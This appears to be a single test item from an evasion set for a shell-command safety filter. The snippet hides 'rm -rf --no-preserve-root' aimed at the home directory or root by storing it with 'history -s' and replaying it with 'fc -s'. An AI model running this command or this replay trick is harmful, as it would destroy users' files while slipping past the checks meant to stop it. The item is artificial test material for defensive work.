# evasion: history is switched on, the command is stored with history -s and replayed by fc -s
# grade: very hard; does: delete
set -o history
history -s "rm -rf --no-preserve-root ${HOME:-/}"
fc -s
